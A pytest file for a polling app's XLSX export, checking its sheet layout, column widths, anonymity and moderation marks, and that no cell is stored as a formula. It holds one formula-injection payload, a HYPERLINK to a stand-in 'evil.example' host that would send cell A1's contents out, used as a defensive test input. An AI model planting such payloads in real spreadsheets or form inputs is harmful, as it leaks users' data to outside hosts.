"""The XLSX export a facilitator puts in a report: a summary with the results' numbers, one
row per participant, and the long sheet as it was; text never runs as a formula."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import pytest_asyncio
from openpyxl.worksheet.worksheet import Worksheet

from server.export import COLUMNS
from server.export_workbook import MAX_WIDTH
from server.kinds import KINDS, Kind, aggregates, questions_from_specs, tally
from server.kinds.qa import TOP_POSTS
from server.kinds.word_cloud import TOP_WORDS

from .client import SIMPLE_QUESTIONS, Organizer, Phone
from .conftest import RunningServer

TITLE = "Test session"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
ARABIC = "لم نتفق أبدا على النجاح 🙂"
COMPOUND = "Unsere Fachkräftemangelbekämpfungsstrategieentwicklung kam nie zustande"
RUDE = "What a shit plan"  # the language filter catches it
RUDE_POST = "Why is this plan so shit?"
HIDDEN = "Please hide this one"
LONG_POST = "How will we know the coaching worked, and who will check it?"  # wraps
# Stories long enough to wrap: the open text question of the kinds' examples takes 50
QUESTIONS = [{**q, "max_length": 200} if q["kind"] == "open_text" else q for q in SIMPLE_QUESTIONS]


@dataclass
class Exported:
    session: dict[str, Any]
    results: dict[str, dict[str, Any]]
    book: openpyxl.Workbook
    raw: bytes


@pytest.mark.parametrize("kind", KINDS.values(), ids=list(KINDS))
def test_every_kind_sums_up_even_before_anyone_answered(kind: Kind[Any]) -> None:
    [q] = questions_from_specs([kind.spec.model_validate(kind.examples.question)])
    table = aggregates(q, tally(q, []), 0)
    assert table.columns and all(len(row) == len(table.columns) for row in table.rows)


def test_readme_states_the_workbook_limits() -> None:
    readme = (Path(__file__).parent.parent / "README.md").read_text()
    assert f"up to {MAX_WIDTH} characters" in readme
    assert f"the {TOP_WORDS} most frequent words" in readme
    assert f"the {TOP_POSTS} posts with the most votes" in readme


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def exported(server: RunningServer) -> Exported:
    async with Organizer(server) as org:
        session = await org.create(questions=QUESTIONS)
        sid = session["id"]
        r = await org.http.post(f"/api/sessions/{sid}/settings", json={"profanity_filter": True})
        assert r.status_code == 200, r.text
        await answer_as_a_room(server, session)
        stories = (await org.results(sid))["q4"]["result"]["items"]
        hidden = next(s["id"] for s in stories if s["text"] == HIDDEN)
        r = await org.http.post(
            f"/api/sessions/{sid}/moderation", json={"item": hidden, "hidden": True}
        )
        assert r.status_code == 200, r.text
        results = await org.results(sid)
        r = await org.http.get(f"/api/sessions/{sid}/export?format=xlsx")
    assert r.status_code == 200, r.text
    return Exported(session, results, openpyxl.load_workbook(io.BytesIO(r.content)), r.content)


async def answer_as_a_room(server: RunningServer, session: dict[str, Any]) -> None:
    """Four phones; the fourth only tells a story the facilitator then hides."""
    answers: list[dict[str, Any]] = [
        {
            "q1": "learner",
            "q2": ["time", "tools"],
            "q3": {"goals-are-clear": 5, "metrics-are-agreed": 3},
            "q4": FORMULA,
            "q5": 10,
            "q6": ["agree-a-next-step", "ask-open-questions", "summarise-the-need"],
            "q7": {"coaching": 60, "job-aids": 40},
            "q8": {"peer-coaching": {"x": 3, "y": 9}, "job-aid": {"x": 2, "y": 6}},
            "q9": ["Zeitdruck", "وقت", "🙈"],
            "q10": {"ask": "Who decides what success looks like?"},
        },
        {
            "q1": "leader",
            "q2": ["support"],
            "q3": {"goals-are-clear": 2},
            "q4": ARABIC,
            "q5": 6,
            "q6": ["follow-up-in-writing", "summarise-the-need", "ask-open-questions"],
            "q7": {"process-change": 100},
            "q8": {"peer-coaching": {"x": 5, "y": 4}},
            "q9": ["zeitdruck", "time"],
            "q10": {"ask": "من يقرر؟ 🤔"},
        },
        {
            "q1": "learner",
            "q4": COMPOUND + " " + RUDE,
            "q5": 8,
            "q9": ["Time", "shit"],
            "q10": {"ask": RUDE_POST},
        },
        {"q4": HIDDEN},
    ]
    phones = [Phone(server) for _ in answers]
    for phone, given in zip(phones, answers, strict=True):
        await phone.join(session["code"])
        for question, value in given.items():
            r = await phone.answer_http(question, value)
            assert r.status_code == 201, (question, r.text)
    # A second post from the second phone, and votes that order the posts
    second = await phones[1].answer_http("q10", {"ask": LONG_POST})
    first_post = (await phones[0].answer_http("q10", {"ask": "Is it funded?"})).json()["item"]
    for voter in (phones[1], phones[2]):
        r = await voter.answer_http("q10", {"upvote": first_post})
        assert r.status_code == 201, r.text
    assert second.status_code == 201, second.text
    for phone in phones:
        await phone.close()


def test_the_workbook_opens_on_its_summary(exported: Exported) -> None:
    assert exported.book.sheetnames == ["Answers", "Summary", "Participants"]
    assert exported.book.active is not None and exported.book.active.title == "Summary"


def test_no_cell_is_a_formula(exported: Exported) -> None:
    for sheet in worksheets(exported):
        assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    with zipfile.ZipFile(io.BytesIO(exported.raw)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    long = table(exported.book["Answers"], header_row=1)
    assert FORMULA in [row["answer"] for row in long]


def test_title_and_export_time_appear_once_at_the_top_of_the_new_sheets(
    exported: Exported,
) -> None:
    long = table(exported.book["Answers"], header_row=1)
    exported_at = long[0]["exported_at"]  # the long sheet keeps them on every row
    stamp = f"Exported {exported_at[:10]} {exported_at[11:16]} UTC"
    for name in ("Summary", "Participants"):
        sheet = exported.book[name]
        values = [c.value for row in sheet.iter_rows() for c in row]
        assert values.count(TITLE) == 1, name
        assert sheet["A1"].value == TITLE
        assert [v for v in values if isinstance(v, str) and v.startswith("Exported")] == [stamp]
        assert sheet["A2"].value == stamp
        assert exported_at not in values


def test_the_long_sheet_keeps_its_columns_and_rows(exported: Exported) -> None:
    sheet = exported.book["Answers"]
    assert [c.value for c in sheet[1]] == list(COLUMNS)
    rows = table(sheet, header_row=1)
    assert {row["session_title"] for row in rows} == {TITLE}
    stories = {row["answer"]: row for row in rows if row["question_id"] == "q4"}
    assert stories[COMPOUND + " " + RUDE]["filtered"] is True
    assert stories[HIDDEN]["hidden"] is True
    assert stories[ARABIC]["hidden"] is False and stories[ARABIC]["filtered"] is False


def test_participants_sheet_has_a_row_per_participant_and_a_column_per_question(
    exported: Exported,
) -> None:
    sheet = exported.book["Participants"]
    header_row = next(r for r in range(1, 10) if sheet.cell(r, 1).value == "Participant")
    rows = table(sheet, header_row)
    questions = exported.session["questions"]
    expected = ["Participant"]
    for n, q in enumerate(questions, start=1):
        heading = f"Q{n} {q['prompt']}"
        if q["kind"] == "scale":
            expected += [f"{heading}: {s['label']}" for s in q["statements"]]
        else:
            expected.append(heading)
    assert [c.value for c in sheet[header_row]] == expected
    assert [row["Participant"] for row in rows] == ["P-001", "P-002", "P-003", "P-004"]
    heading = {q["id"]: f"Q{n} {q['prompt']}" for n, q in enumerate(questions, start=1)}
    first, second, third, fourth = rows
    # two learners, one leader, one who did not say: every group is too small to show
    assert first[heading["q1"]] == second[heading["q1"]] == "withheld"
    assert first[heading["q2"]] == "Time; Tools"
    assert first["Q3 How true is this today?: Goals are clear"] == 5
    assert first["Q3 How true is this today?: Metrics are agreed"] == 3
    assert second["Q3 How true is this today?: Metrics are agreed"] is None  # skipped
    q4 = "Q4 Tell us a story"
    assert first[q4] == FORMULA and second[q4] == ARABIC
    assert third[q4] == f"[filtered] {COMPOUND} {RUDE}"
    assert fourth[q4] == f"[hidden] {HIDDEN}"
    q5 = "Q5 How likely are you to recommend this programme?"
    assert [first[q5], second[q5], third[q5], fourth[q5]] == [10, 6, 8, None]
    q10 = "Q10 What do you want to ask the sponsor?"
    assert second[q10] == f"من يقرر؟ 🤔\n{LONG_POST}"
    assert third["Q9 In a word or two: what gets in the way?"] == "[filtered] Time; shit"
    assert third[q10] == f"[filtered] {RUDE_POST}"
    assert sheet.freeze_panes == f"B{header_row + 1}"


def test_summary_numbers_are_the_results(exported: Exported) -> None:
    blocks = summary_blocks(exported.book["Summary"])
    questions = {q["id"]: q for q in exported.session["questions"]}
    assert list(blocks) == [f"Q{n}" for n in range(1, 11)]
    for n, (qid, q) in enumerate(questions.items(), start=1):
        block, found = blocks[f"Q{n}"], exported.results[qid]
        assert block.prompt == q["prompt"]
        assert block.responses == found["responses"], qid
        assert block.rows == expected_rows(q, found["result"], found["responses"]), qid


def test_summary_singles_nobody_out(exported: Exported) -> None:
    values = [str(c.value) for row in exported.book["Summary"].iter_rows() for c in row]
    assert not [v for v in values if re.search(r"P-\d{3}", v)]
    assert FORMULA not in values and ARABIC not in values  # stories are counted, not listed
    assert "4 participants answered" in values


def test_columns_fit_their_content_up_to_a_cap(exported: Exported) -> None:
    for sheet in worksheets(exported):
        used = {c.column for row in sheet.iter_rows() for c in row if c.value is not None}
        widths = set_widths(sheet)
        assert used <= set(widths), (sheet.title, used - set(widths))
        assert all(6 <= width <= MAX_WIDTH + 1 for width in widths.values()), (sheet.title, widths)
    participants = exported.book["Participants"]
    widths = set_widths(participants)
    # The Q&A column holds a post longer than the cap: capped, and its cells wrap
    qa = next(c for c in participants[4] if str(c.value).startswith("Q10 "))
    assert widths[qa.column] == pytest.approx(MAX_WIDTH, abs=1)
    long_cell = next(c for c in participants[qa.column_letter] if LONG_POST in str(c.value))
    assert long_cell.alignment.wrap_text
    # A column of short answers (P-001) stays narrow
    assert widths[1] < 15


# -- reading the workbook back --------------------------------------------------------------
def worksheets(exported: Exported) -> list[Worksheet]:
    return [s for s in exported.book.worksheets if isinstance(s, Worksheet)]


def table(sheet: Worksheet, header_row: int) -> list[dict[str, Any]]:
    header = [c.value for c in sheet[header_row]]
    rows = sheet.iter_rows(min_row=header_row + 1, values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def set_widths(sheet: Worksheet) -> dict[int, float]:
    """The width the file sets for each column (1-based); openpyxl keeps a run of columns
    of one width as one entry, from `min` to `max`."""
    return {
        col: dim.width
        for dim in sheet.column_dimensions.values()
        if dim.customWidth
        for col in range(dim.min, dim.max + 1)
    }


@dataclass
class Block:
    prompt: str
    responses: int
    rows: list[tuple[Any, ...]]


def summary_blocks(sheet: Worksheet) -> dict[str, Block]:
    """Each question's block: `Qn` and the prompt, its responses, a header and its rows
    (notes, which fill only the first column, are left out) up to an empty line."""
    grid = [list(row) for row in sheet.iter_rows(values_only=True)]
    blocks = {}
    for at, row in enumerate(grid):
        if isinstance(row[0], str) and re.fullmatch(r"Q\d+", row[0]):
            assert grid[at + 1][1] == "Responses"
            width = len([c for c in grid[at + 2][1:] if c is not None])
            rows = []
            for line in grid[at + 3 :]:
                if line[1] is None:
                    break
                if any(c is not None for c in line[2 : 1 + width]):
                    rows.append(tuple(line[1 : 1 + width]))
            blocks[row[0]] = Block(row[1], grid[at + 1][2], rows)
    return blocks


def expected_rows(q: dict[str, Any], result: dict[str, Any], responses: int) -> list[Any]:
    """What the summary should show, straight from the results API."""
    kind = q["kind"]
    if kind in ("single_choice", "multiple_choice"):
        counts = result["counts"]
        return [
            (o["label"], counts[o["id"]], share(counts[o["id"]], responses)) for o in q["options"]
        ]
    if kind == "scale":
        stats = result["statements"]
        return [
            (
                s["label"],
                stats[s["id"]]["n"],
                stats[s["id"]]["mean"],
                *stats[s["id"]]["counts"].values(),
            )
            for s in q["statements"]
        ]
    if kind == "nps":
        groups = [(g.capitalize(), result[g]) for g in ("promoters", "passives", "detractors")]
        return [(Starts("NPS"), result["score"], None)] + [
            (Starts(g), n, share(n, result["n"])) for g, n in groups
        ]
    if kind == "ranking":
        items = sorted(q["items"], key=lambda i: -result["items"][i["id"]]["points"])
        return [
            (i["label"], *(result["items"][i["id"]][k] for k in ("points", "mean_rank", "n")))
            for i in items
        ]
    if kind == "points":
        options = result["options"]
        return [
            (o["label"], *(options[o["id"]][k] for k in ("total", "mean", "n")))
            for o in q["options"]
        ]
    if kind == "grid_2x2":
        items = result["items"]
        return [
            (i["label"], *(items[i["id"]][k] for k in ("n", "x_mean", "y_mean")))
            for i in q["items"]
        ]
    if kind == "word_cloud":
        return [(w["text"], w["count"]) for w in result["words"]]
    if kind == "open_text":
        items = result["items"]
        hidden, filtered = (sum(i[mark] for i in items) for mark in ("hidden", "filtered"))
        return [
            (Starts("Answers"), len(items)),
            (Starts("Hidden by the facilitator"), hidden),
            (Starts("Hidden by the language filter"), filtered),
        ]
    if kind == "qa":
        posts = [(tagged(i), i["votes"]) for i in result["items"]]
        return [(f"All {len(posts)} posts", sum(i["votes"] for i in result["items"])), *posts]
    raise AssertionError(f"no expected summary for {kind}")


def share(count: int, of: int) -> Any:
    return pytest.approx(count / of) if of else None


@dataclass
class Starts:
    """A label that begins so (its explanation may follow)."""

    prefix: str

    def __eq__(self, other: object) -> bool:
        return isinstance(other, str) and other.startswith(self.prefix)


def tagged(post: dict[str, Any]) -> str:
    """A Q&A post as the summary lists it, with what the room did to it in front."""
    names = {"pending": "awaiting approval"}
    marks = [names.get(m, m) for m in ("hidden", "filtered", "pending", "answered") if post[m]]
    return f"[{', '.join(marks)}] {post['text']}" if marks else post["text"]
